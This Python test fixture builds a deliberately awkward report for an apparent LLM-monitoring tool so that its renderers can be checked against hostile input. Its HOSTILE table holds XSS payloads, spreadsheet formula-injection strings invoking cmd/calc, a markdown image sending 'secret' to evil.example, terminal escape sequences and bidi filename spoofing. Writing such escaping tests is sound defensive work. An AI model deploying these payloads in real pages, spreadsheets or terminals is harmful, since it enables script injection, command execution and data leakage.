"""One report with everything that is hard to write down, for the golden files and the tests of hostile text."""

from __future__ import annotations

from datetime import UTC, datetime
from decimal import Decimal

from llmwatch.analysis.report import (
    Change,
    Chart,
    Column,
    Interval,
    Moment,
    Note,
    Number,
    Report,
    Row,
    Section,
    Series,
    Table,
    Text,
    Trend,
    Unknown,
)

HOSTILE = {
    "escape": "\x1b[31mred\x1b[0m",
    "link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "c1": "a\x9b31mb\x85c",
    "bidi": "user\u202egnp.exe",
    "formula": "=cmd()|'/c calc'!A0",
    "plus": "+1+cmd()",
    "tab": "\t=1+1",
    "full_width": "\uff1dcmd()",
    "image": "![x](http://evil.example/?q=secret)",
    "html": "<img src=x onerror=alert(1)>",
    "markup": "[bold red]not bold[/]",
    "pipe": "a|b",
    "newline": "two\nlines\r\nthree",
    "fence": "```\n# heading",
    "tag": "a\U000e0041b",
    "umlaut": "Größe",
    "wide": "見積もり",
    "surrogate": "a\ud800b",
    "nul": "a\x00b",
    "script": "<script>alert(1)</script>",
    "javascript": "javascript:alert(1)",
    "quote": '"onmouseover="alert(1)',
    "entity": "&lt;b&gt;&#x3c;",
    "style_end": "</style></title></svg><script>alert(1)</script>",
    "right_to_left": "לקוח 42 שלום",
    "zero_width": "a\u200bd\u2060m\ufeffin",
    "long": "x" * 10_000,
}

_COLUMNS = (
    Column("name", "name", is_number=False),
    Column("calls", "calls"),
    Column("spend_usd", "spend"),
    Column("share", "of spend", has_bar=True),
    Column("change_usd", "change"),
    Column("latency_ms", "P95", rank=1),
    Column("rate", "tokens/s", rank=2),
    Column("raw", "raw", rank=9, is_number=False),
)


def _row(key: str, name: str, number: int, usd: str | None, kind: str = "") -> Row:
    spend = Unknown("no price for model x|y") if usd is None else Number(Decimal(usd), "usd")
    share = Unknown("no price for model x|y") if usd is None else Number(Decimal(usd) / 1000, "share")
    cells = (
        Text(name),
        Number(number, "count"),
        spend,
        share,
        Change(Decimal(usd or 0), "usd", Decimal("0.068"), "", "bad"),
        Number(Decimal("1234.567"), "ms"),
        Number(Decimal("45.25"), "per_second"),
        Text(name),
    )
    return Row(key, cells, kind=kind)  # pyright: ignore[reportArgumentType]


def awkward_report() -> Report:
    """Rows with hostile names, amounts of every size, an unknown, a new and an unchanged value, notes with code."""
    amounts = ("834.405", "0.0000655", "0", "0.099499", "1234567.891", "-4.5")
    names = list(HOSTILE.items())
    rows = [_row(key, name, 10**n, amounts[n % 6]) for n, (key, name) in enumerate(names[:6])]
    rows += [_row(key, name, n, "1") for n, (key, name) in enumerate(names[6:])]
    rows.append(_row("unpriced", "acme/own-1", 31, None))
    rows.append(_row("(all)", "all", 1000, "1000", "total"))
    facts_columns = (Column("measure", "", is_number=False), Column("now", "now"), Column("change", "change"))
    facts = (
        Row("spend", (Text("Spend"), Number(Decimal("12.30"), "usd"), Change(Decimal("12.30"), "usd", None, "new"))),
        Row("part", (Text("input"), Number(Decimal("0E-12"), "usd"), Change(0, "usd", None, "same")), kind="part"),
        Row("cached", (Text("cached"), Number(Decimal("0.29351"), "share"), Change(Decimal("-0.0141"), "share"))),
        Row(
            "lag",
            (Text("lag"), Unknown("undetermined: 41 pairs, 160 needed"), Unknown("undetermined: 41 pairs, 160 needed")),
        ),
        Row("trend", (Text("trend"), Trend((Decimal(0), Decimal("0.5"), Decimal(1)), "2026-11-14"), Text(""))),
        Row("score", (Text("score"), Interval(Decimal("4.26"), Decimal("4.31"), Decimal("4.36"), "plain"), Text(""))),
        Row(
            "valid", (Text("valid"), Interval(Decimal("0.985"), Decimal("0.989"), Decimal("0.992"), "share"), Text(""))
        ),
        Row("saving", (Text("saving"), Interval(Decimal(-10), None, Decimal("114.5"), "usd"), Text(""))),
        Row("loss", (Text("loss"), Interval(Decimal("-0.031"), Decimal(0), Decimal("0.014"), "points"), Text(""))),
        Row("seen", (Text("seen"), Moment(datetime(2026, 11, 14, 3, 5, tzinfo=UTC)), Text(""))),
    )
    charts = (
        Chart(
            "money_over_time",
            HOSTILE["style_end"],
            "usd",
            tuple(f"2026-11-{day:02}" for day in range(1, 6)),
            (
                Series("spend", HOSTILE["script"], tuple(Decimal(n) for n in (1, 2, 0, 4, 5))),
                Series("margin", "margin", (Decimal(-3), None, Decimal(2), Decimal(1), None)),
                Series("nothing", "revenue", (None,) * 5),
            ),
        ),
        Chart(
            "score_over_time",
            "Share right",
            "share",
            tuple(f"2026-11-{day:02}" for day in range(1, 6)),
            (
                Series(
                    "score",
                    "score",
                    tuple(Decimal(n) / 100 for n in (98, 97, 97, 91, 90)),
                    tuple(Decimal(n) / 100 for n in (96, 95, 95, 88, 87)),
                    tuple(Decimal(n) / 100 for n in (99, 99, 99, 94, 93)),
                ),
            ),
            (2, 3),
            3,
            "fell in",
        ),
    )
    notes = (
        Note("A plain note with *stars* and a\nbreak.", "Do this:", 'model = "x```y"\nhost = "\x1b[31m"'),
        Note("=not a formula"),
    )
    sections = (
        Section("facts", "FACTS", (Table("facts", "measure", facts_columns, facts),), charts=charts),
        Section("names", "NAMES", (Table("names", "name", _COLUMNS, tuple(rows), "Hostile names"),), notes[1:]),
        Section("unknowns", "NOT KNOWN", notes=notes, is_warning=True),
    )
    head = (("since", Moment(datetime(2026, 11, 14, tzinfo=UTC))), ("prices", Unknown("no price table was read")))
    return Report("report", "awkward \x1b[31mreport", head, ("one line",), sections, main_table="names")
